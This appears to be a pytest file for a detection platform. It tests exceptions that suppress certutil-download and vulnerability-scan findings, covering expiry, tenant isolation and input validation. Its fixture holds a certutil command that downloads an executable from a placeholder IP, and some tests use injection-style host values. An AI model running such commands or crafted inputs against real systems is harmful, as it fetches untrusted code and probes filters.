"""An exception from a finding: proposed, counted, kept, and gone by on the stream."""

import pytest
import yaml

from api.rule_check import house_rules, own_rules
from business.incidents import open_by_hand, set_verdict
from detectors import sigma, vulnerability
from pipelines.detecting import fold
from storage.database.rows import insert_findings
from storage.rules import tenant_rules
from storage.schema import Context, EventBatch, Finding
from storage.tenant import Role
from tests.api.conftest import START_US, Front
from tests.detectors.streams import frame_of

RULE = "certutil_as_downloader"


def download(host: str, user: str, tenant: str = "acme", second: int = 0) -> dict[str, object]:
    """Give one download by certutil."""
    return {
        "tenant_id": tenant,
        "time_us": START_US + second * 1_000_000,
        "class_uid": 1007,
        "activity_id": 1,
        "metadata.product.name": "windows",
        "metadata.log_format": "sample",
        "device.hostname": host,
        "actor.user.name": user,
        "process.file.path": "C:\\Windows\\System32\\certutil.exe",
        "process.cmd_line": "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe",
    }


def claims(front: Front, *rows: dict[str, object]) -> list[Finding]:
    """Give what the flows would claim of these events, with the tenants' own rules."""
    batch = EventBatch(frame_of(rows))
    made = sigma.detect({}, batch, Context(0, own_sets(front)))[1]
    return [f for f in made if "certutil" in f.title.lower()]


def own_sets(front: Front) -> dict[str, object]:
    """Give the rules of the house and of the tenants, as the flows have them."""
    sets: dict[str, object] = {"": house_rules(front.app.state.desk.settings)}
    for scope in (front.acme, front.bolt):
        with front.database.app(scope) as tx:
            texts = {str(r["rule_id"]): str(r["text"]) for r in tenant_rules(tx)}
        sets[scope.tenant_id] = own_rules(front.app.state.desk.settings, texts)
    return sets


@pytest.fixture
def found(front: Front) -> Finding:
    """Keep three findings of one rule: two of pc1 by ann, one of pc2 by bob."""
    rows = [download("pc1", "ann"), download("pc1", "ann", second=9), download("pc2", "bob")]
    made = claims(front, *rows)
    assert len(made) == 3
    with front.database.writer() as tx:
        insert_findings(tx, made)
    return next(f for f in made if f.entity == "pc1")


def test_it_is_proposed_counted_kept_and_gone_by(front: Front, found: Finding) -> None:
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{found.finding_id}/exception"
    told = client.get(place).json()
    assert ["host", "pc1"] in told["proposed"]
    assert ["user", "ann"] in told["conditions"]
    wanted = [["host", "pc1"], ["user", "ann"]]
    effect = client.post(f"{place}/effect", json={"conditions": wanted}).json()
    assert (effect["removed"], effect["of"], effect["right"]) == (2, 3, 0)
    kept = client.post(place, json={"conditions": wanted, "why": "our deployment tool"})
    assert kept.status_code == 201, kept.text
    text = client.get(f"/v1/rules/{kept.json()['rule_id']}").json()["text"]
    assert "our deployment tool" in yaml.safe_load(text)["description"]
    rows = [download("pc1", "ann"), download("pc1", "eve"), download("pc2", "ann")]
    assert sorted(f.entity for f in claims(front, *rows)) == ["pc1", "pc2"]
    assert len(claims(front, download("pc1", "ann", "bolt"))) == 1
    client.delete(f"/v1/rules/{kept.json()['rule_id']}")
    assert len(claims(front, *rows)) == 3


def test_the_same_exception_twice_is_one(front: Front, found: Finding) -> None:
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{found.finding_id}/exception"
    new = {"conditions": [["host", "pc1"]], "why": "x"}
    ids = {client.post(place, json=new).json()["rule_id"] for _ in range(2)}
    assert len(ids) == 1
    assert len(client.get("/v1/rules", params={"owner": "tenant"}).json()["items"]) == 1


def test_one_for_a_time_ends_by_the_time_of_the_events(front: Front, found: Finding) -> None:
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{found.finding_id}/exception"
    new = {"conditions": [["host", "pc1"]], "why": "a move of machines", "days": 7}
    kept = client.post(place, json=new)
    assert kept.status_code == 201, kept.text
    text = client.get(f"/v1/rules/{kept.json()['rule_id']}").json()["text"]
    assert yaml.safe_load(text)["title"].startswith("Exception until 2026-")
    week = 7 * 86_400
    rows = [download("pc1", "ann", second=n) for n in (week - 1, week, week + 1)]
    after_s = [(f.time_us - START_US) // 1_000_000 for f in claims(front, *rows)]
    assert after_s == [week, week + 1]
    assert client.post(place, json={**new, "days": 0}).status_code == 422


def test_what_people_judged_true_is_told_before_it_is_taken_out(
    front: Front, found: Finding
) -> None:
    with front.database.app(front.acme) as tx:
        incident = open_by_hand(front.acme, tx, "by hand", [found.finding_id])
        set_verdict(front.acme, tx, incident["incident_id"], "true_positive", incident["version"])
    client = front.bearer(front.acme, Role.VIEWER)
    place = f"/v1/findings/{found.finding_id}/exception/effect"
    assert client.post(place, json={"conditions": [["host", "pc1"]]}).json()["right"] == 1


@pytest.mark.parametrize(
    ("conditions", "why"),
    [
        ([["host", "other"]], "x"),
        ([["secret", "pc1"]], "x"),
        ([["host", "pc1"]], "  "),
        ([["host", "pc1"]], "a\nb"),
        ([], "x"),
    ],
)
def test_what_is_none_is_refused(
    front: Front, found: Finding, conditions: list[list[str]], why: str
) -> None:
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{found.finding_id}/exception"
    assert client.post(place, json={"conditions": conditions, "why": why}).status_code == 422
    other = front.bearer(front.bolt, Role.ANALYST)
    assert other.get(place).status_code == 404
    new = {"conditions": [["host", "pc1"]], "why": "x"}
    assert other.post(place, json=new).status_code == 404


def test_names_with_signs_of_rules_are_taken_letter_by_letter(front: Front) -> None:
    odd = "pc*?\\1: {a}\u2028#'\""
    made = claims(front, download(odd, "ann"))
    with front.database.writer() as tx:
        insert_findings(tx, made)
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{made[0].finding_id}/exception"
    kept = client.post(place, json={"conditions": [["host", odd]], "why": "odd"})
    assert kept.status_code == 201, kept.text
    assert claims(front, download(odd, "ann")) == []
    assert len(claims(front, download("pcXX\\1: {a}\u2028#'\"", "ann"))) == 1


def test_a_claim_of_a_detector_is_out_for_a_time(front: Front) -> None:
    made = scanned(front, "pc1")
    with front.database.writer() as tx:
        insert_findings(tx, made)
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{made[0].finding_id}/exception"
    new = {"conditions": [["host", "pc1"]], "why": "a test machine", "days": 1}
    assert client.post(place, json=new).status_code == 201
    assert scanned(front, "pc1") == []
    assert len(scanned(front, "pc1", from_s=86_401)) == 1


def scanned(front: Front, *hosts: str, tenant: str = "acme", from_s: int = 0) -> list[Finding]:
    """Give what a detector in code claims of scans of these hosts, in a flow."""
    rows = [
        {
            "tenant_id": tenant,
            "time_us": START_US + from_s * 1_000_000 + second,
            "class_uid": 2002,
            "activity_id": 1,
            "severity_id": 5,
            "device.hostname": host,
            "finding_info.uid": "plugin 104743",
        }
        for second, host in enumerate(hosts)
    ]
    context = Context(0, own_sets(front))
    states = {"vulnerability": vulnerability.META.empty_state()}
    batch = EventBatch.of(frame_of(rows))
    return list(fold({"vulnerability": vulnerability}, states, [(batch, 0)], context).findings)


def test_claims_of_detectors_in_code_are_taken_out_where_they_name_it(front: Front) -> None:
    made = scanned(front, "WEB-1", "WEB-2")
    with front.database.writer() as tx:
        insert_findings(tx, made)
    client = front.bearer(front.acme, Role.ANALYST)
    place = f"/v1/findings/{made[0].finding_id}/exception"
    wanted = [["host", "WEB-1"]]
    effect = client.post(f"{place}/effect", json={"conditions": wanted}).json()
    assert (effect["removed"], effect["of"]) == (1, 2)
    kept = client.post(place, json={"conditions": wanted, "why": "a bait for burglars"})
    assert kept.status_code == 201, kept.text
    feigned = "x;host=WEB-1;y"
    told = scanned(front, "WEB-1", "WEB-10", "WEB-2", feigned)
    assert [f.entity for f in told] == ["WEB-10", "WEB-2", feigned]
    assert [f.entity for f in scanned(front, "WEB-1", tenant="bolt")] == ["WEB-1"]
    client.delete(f"/v1/rules/{kept.json()['rule_id']}")
    assert [f.entity for f in scanned(front, "WEB-1")] == ["WEB-1"]


def test_a_filter_over_claims_names_the_rules_it_is_for(front: Front) -> None:
    text = """title: Nothing at all
id: 11111111-2222-4333-8444-0000000000aa
logsource: {product: inopsio, category: finding}
filter: {rules: any, s: {level: critical}, condition: not s}
"""
    client = front.bearer(front.acme, Role.ANALYST)
    answer = client.post("/v1/rules", json={"text": text})
    assert (answer.status_code, "must name the rules" in answer.text) == (422, True)
